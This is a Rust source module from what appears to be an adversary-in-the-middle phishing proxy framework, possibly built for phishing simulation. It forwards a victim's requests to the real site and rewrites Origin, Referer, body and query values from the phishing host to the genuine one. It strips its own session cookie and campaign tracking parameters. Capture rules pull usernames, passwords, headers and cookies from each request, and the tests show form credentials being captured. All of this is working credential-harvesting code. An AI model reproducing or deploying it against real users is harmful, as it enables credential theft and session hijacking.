//! Request Pipeline (C7, §4.7). Normalizes and rewrites the inbound request
//! before it is handed to the outbound client (C5), driving request-side
//! captures (C9) along the way.
//!
//! Step 1 (early `request_header`/`any` regex replacements, applied before
//! the outbound client is even built so impersonation sees the final UA)
//! and step 2 (building the client itself) happen in the HTTP entry point
//! (C12), since they cross into outbound client construction rather than
//! request rewriting proper. This module covers steps 3-9.

use std::collections::HashMap;

use crate::config::proxy_config::{CaptureSource, HostConfig};
use crate::models::campaign::Template;
use crate::models::session::ProxySession;
use crate::proxy::capture::{self, CaptureEvent, CaptureResult, CookieAttrs};
use crate::proxy::rewrite_engine;
use crate::proxy::url_rewrite;

/// The fully rewritten request, ready to be sent upstream.
#[derive(Debug)]
pub struct PreparedRequest {
    pub method: String,
    pub scheme: String,
    pub host: String,
    pub path: String,
    pub query: String,
    pub headers: HashMap<String, String>,
    pub body: Vec<u8>,
}

impl PreparedRequest {
    pub fn url(&self) -> String {
        if self.query.is_empty() {
            format!("{}://{}{}", self.scheme, self.host, self.path)
        } else {
            format!("{}://{}{}?{}", self.scheme, self.host, self.path, self.query)
        }
    }
}

pub struct RequestPipelineOutcome {
    pub prepared: PreparedRequest,
    pub captures: Vec<CaptureResult>,
}

/// Runs §4.7 steps 3-9 against one inbound request. `initial_start_url`,
/// when `Some`, is the proxy entry's configured `start-url` and only ever
/// passed on a freshly created session's first request (§4.7 step 7).
#[allow(clippy::too_many_arguments)]
pub async fn run(
    session: &ProxySession,
    host_cfg: &HostConfig,
    template: Option<&Template>,
    session_cookie_name: &str,
    method: &str,
    path: &str,
    query: &str,
    mut headers: HashMap<String, String>,
    body: Vec<u8>,
    initial_start_url: Option<&str>,
) -> RequestPipelineOutcome {
    let host_map = host_map_for_session(session);

    normalize_headers(&mut headers, &host_map, method);

    let captures = run_captures(session, host_cfg, method, path, &headers, &body).await;

    let mut body_text = String::from_utf8_lossy(&body).into_owned();
    body_text = rewrite_engine::apply_regex_body_rewrites(&body_text, &host_cfg.rules.rewrite, CaptureSource::RequestBody);
    rewrite_engine::apply_regex_header_rewrites(&mut headers, &host_cfg.rules.rewrite, CaptureSource::RequestHeader);

    body_text = url_rewrite::de_phish(&body_text, &host_map);

    let query_map = de_phish_query(query, &host_map);

    let (final_path, final_query) = match initial_start_url {
        Some(start_url) => split_start_url(start_url),
        None => (path.to_string(), serialize_query(&strip_campaign_params(query_map, template))),
    };

    let new_body = body_text.into_bytes();
    set_content_length(&mut headers, new_body.len(), method);

    strip_session_cookie(&mut headers, session_cookie_name);
    headers.remove("x-ja4");

    RequestPipelineOutcome {
        prepared: PreparedRequest {
            method: method.to_string(),
            scheme: host_cfg.scheme.clone(),
            host: host_cfg.to.clone(),
            path: final_path,
            query: final_query,
            headers,
            body: new_body,
        },
        captures,
    }
}

/// upstream-host → phishing-host, the shape [`url_rewrite::de_phish`] and
/// [`url_rewrite::re_phish`] expect (§4.7 step 6, §4.8 step 6). Shared with
/// the response pipeline, which needs the identical mapping to re-phish in
/// the opposite direction.
pub(crate) fn host_map_for_session(session: &ProxySession) -> HashMap<String, String> {
    session
        .config
        .iter()
        .map(|e| (e.key().clone(), e.value().to.clone()))
        .collect()
}

/// Step 3: header normalization.
fn normalize_headers(headers: &mut HashMap<String, String>, host_map: &HashMap<String, String>, method: &str) {
    if let Some(origin) = headers.get("origin").cloned() {
        headers.insert("origin".to_string(), url_rewrite::de_phish(&origin, host_map));
    }
    if let Some(referer) = headers.get("referer").cloned() {
        headers.insert("referer".to_string(), url_rewrite::de_phish(&referer, host_map));
    }
    headers.insert("cache-control".to_string(), "no-cache".to_string());
    if headers.get("sec-fetch-dest").map(String::as_str) == Some("iframe") {
        headers.insert("sec-fetch-dest".to_string(), "document".to_string());
    }
    let _ = method; // Content-Length is fixed up later, once the final body size is known.
}

fn set_content_length(headers: &mut HashMap<String, String>, body_len: usize, method: &str) {
    let needs_length = matches!(method, "POST" | "PUT" | "PATCH");
    if needs_length || headers.contains_key("content-length") {
        headers.insert("content-length".to_string(), body_len.to_string());
    }
}

/// Step 4: request-side captures, evaluated against the body, the header
/// block, and the inbound `Cookie` header in turn.
async fn run_captures(
    session: &ProxySession,
    host_cfg: &HostConfig,
    method: &str,
    path: &str,
    headers: &HashMap<String, String>,
    body: &[u8],
) -> Vec<CaptureResult> {
    let upstream_host = session.target_domain.as_str();
    let content_type = headers.get("content-type").map(String::as_str);

    let mut results = capture::evaluate(
        session,
        &host_cfg.rules.capture,
        &CaptureEvent {
            method,
            path,
            source: CaptureSource::RequestBody,
            body,
            content_type,
            headers,
            cookies: &[],
            upstream_host,
        },
    )
    .await;

    results.extend(
        capture::evaluate(
            session,
            &host_cfg.rules.capture,
            &CaptureEvent {
                method,
                path,
                source: CaptureSource::RequestHeader,
                body: &[],
                content_type,
                headers,
                cookies: &[],
                upstream_host,
            },
        )
        .await,
    );

    let cookies = parse_cookie_header(headers.get("cookie").map(String::as_str).unwrap_or(""));
    if !cookies.is_empty() {
        results.extend(
            capture::evaluate(
                session,
                &host_cfg.rules.capture,
                &CaptureEvent {
                    method,
                    path,
                    source: CaptureSource::Cookie,
                    body: &[],
                    content_type,
                    headers,
                    cookies: &cookies,
                    upstream_host,
                },
            )
            .await,
        );
    }

    results
}

fn parse_cookie_header(value: &str) -> Vec<(String, String, CookieAttrs)> {
    value
        .split(';')
        .filter_map(|pair| pair.split_once('='))
        .map(|(k, v)| (k.trim().to_string(), v.trim().to_string(), CookieAttrs::default()))
        .collect()
}

fn parse_query(query: &str) -> HashMap<String, String> {
    url::form_urlencoded::parse(query.as_bytes()).into_owned().collect()
}

/// Step 6 (query half): de-phishes every query-parameter value, matching
/// phishing hosts embedded in redirect-style parameters (e.g.
/// `?returnUrl=https://phish.test/...`).
fn de_phish_query(query: &str, host_map: &HashMap<String, String>) -> HashMap<String, String> {
    parse_query(query)
        .into_iter()
        .map(|(k, v)| (k, url_rewrite::de_phish(&v, host_map)))
        .collect()
}

/// Step 8 (query half): drops the template's `url-identifier`/
/// `state-identifier` parameters from the outbound query so upstream never
/// sees the campaign's own bookkeeping.
fn strip_campaign_params(mut query: HashMap<String, String>, template: Option<&Template>) -> HashMap<String, String> {
    if let Some(template) = template {
        query.remove(&template.url_identifier);
        query.remove(&template.state_identifier);
    }
    query
}

fn serialize_query(query: &HashMap<String, String>) -> String {
    let mut serializer = url::form_urlencoded::Serializer::new(String::new());
    for (k, v) in query {
        serializer.append_pair(k, v);
    }
    serializer.finish()
}

/// Step 8 (cookie half): removes the engine's own session cookie from the
/// outbound `Cookie` header so upstream never receives it.
fn strip_session_cookie(headers: &mut HashMap<String, String>, session_cookie_name: &str) {
    let Some(raw) = headers.get("cookie").cloned() else { return };
    let kept: Vec<String> = raw
        .split(';')
        .map(str::trim)
        .filter(|pair| pair.split_once('=').map(|(k, _)| k.trim() != session_cookie_name).unwrap_or(true))
        .map(str::to_string)
        .collect();

    if kept.is_empty() {
        headers.remove("cookie");
    } else {
        headers.insert("cookie".to_string(), kept.join("; "));
    }
}

/// Splits a configured `start-url` (e.g. `/login?a=b`) into path+query.
fn split_start_url(start_url: &str) -> (String, String) {
    match start_url.split_once('?') {
        Some((path, query)) => (path.to_string(), query.to_string()),
        None => (start_url.to_string(), String::new()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::proxy_config::ProxyConfig;
    use uuid::Uuid;

    fn config_and_session() -> (ProxyConfig, ProxySession) {
        let yaml = r#"
version: "0.0"
hosts:
  "upstream.example.com":
    to: "phish.test"
    capture:
      - name: login_form
        from: request_body
        engine: form
        method: POST
        find: [username, password]
"#;
        let cfg = ProxyConfig::compile(yaml).unwrap();
        let session = ProxySession::new(
            Uuid::new_v4(),
            Uuid::new_v4(),
            Uuid::new_v4(),
            "phish.test".to_string(),
            "upstream.example.com".to_string(),
            Some("UA/1.0".to_string()),
            &cfg,
        );
        (cfg, session)
    }

    #[tokio::test]
    async fn rewrites_host_and_strips_session_cookie() {
        let (cfg, session) = config_and_session();
        let host_cfg = cfg.host("upstream.example.com").unwrap();

        let mut headers = HashMap::new();
        headers.insert("cookie".to_string(), "ps=abc123; other=keep".to_string());
        headers.insert("origin".to_string(), "https://phish.test".to_string());

        let outcome = run(
            &session,
            host_cfg,
            None,
            "ps",
            "POST",
            "/login",
            "",
            headers,
            b"username=alice&password=hunter2".to_vec(),
            None,
        )
        .await;

        assert_eq!(outcome.prepared.host, "phish.test");
        assert_eq!(outcome.prepared.scheme, "https");
        assert_eq!(outcome.prepared.headers.get("cookie"), Some(&"other=keep".to_string()));
        assert_eq!(outcome.prepared.headers.get("origin"), Some(&"https://upstream.example.com".to_string()));
        assert_eq!(outcome.captures.len(), 1);
        assert_eq!(outcome.captures[0].value["username"], serde_json::json!("alice"));
    }

    #[tokio::test]
    async fn start_url_override_replaces_path_and_query() {
        let (cfg, session) = config_and_session();
        let host_cfg = cfg.host("upstream.example.com").unwrap();

        let outcome = run(
            &session,
            host_cfg,
            None,
            "ps",
            "GET",
            "/",
            "",
            HashMap::new(),
            Vec::new(),
            Some("/signin?step=1"),
        )
        .await;

        assert_eq!(outcome.prepared.path, "/signin");
        assert_eq!(outcome.prepared.query, "step=1");
    }

    #[tokio::test]
    async fn strips_campaign_identifier_params_from_query() {
        let (cfg, session) = config_and_session();
        let host_cfg = cfg.host("upstream.example.com").unwrap();
        let template = Template {
            url_identifier: "u".to_string(),
            state_identifier: "s".to_string(),
            evasion_page: None,
            before_landing_page: None,
            landing_page: crate::models::campaign::PageRef { domain: "phish.test".to_string(), html: String::new() },
            after_landing_page: None,
            after_landing_redirect_url: None,
        };

        let outcome = run(
            &session,
            host_cfg,
            Some(&template),
            "ps",
            "GET",
            "/dashboard",
            "u=rid&s=enc&keep=1",
            HashMap::new(),
            Vec::new(),
            None,
        )
        .await;

        assert!(!outcome.prepared.query.contains("u="));
        assert!(!outcome.prepared.query.contains("s="));
        assert!(outcome.prepared.query.contains("keep=1"));
    }

    #[test]
    fn content_length_is_set_for_post_bodies() {
        let mut headers = HashMap::new();
        set_content_length(&mut headers, 42, "POST");
        assert_eq!(headers.get("content-length"), Some(&"42".to_string()));
    }
}
